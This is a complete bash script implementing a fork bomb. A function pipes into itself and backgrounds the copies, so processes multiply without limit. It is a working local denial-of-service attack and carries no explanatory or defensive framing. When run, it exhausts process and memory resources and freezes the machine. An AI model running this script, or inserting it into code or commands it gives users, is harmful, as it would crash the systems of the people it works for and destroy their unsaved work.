#!/bin/bash
# Doubles itself for ever.
bomb() { bomb | bomb & }
bomb
wait
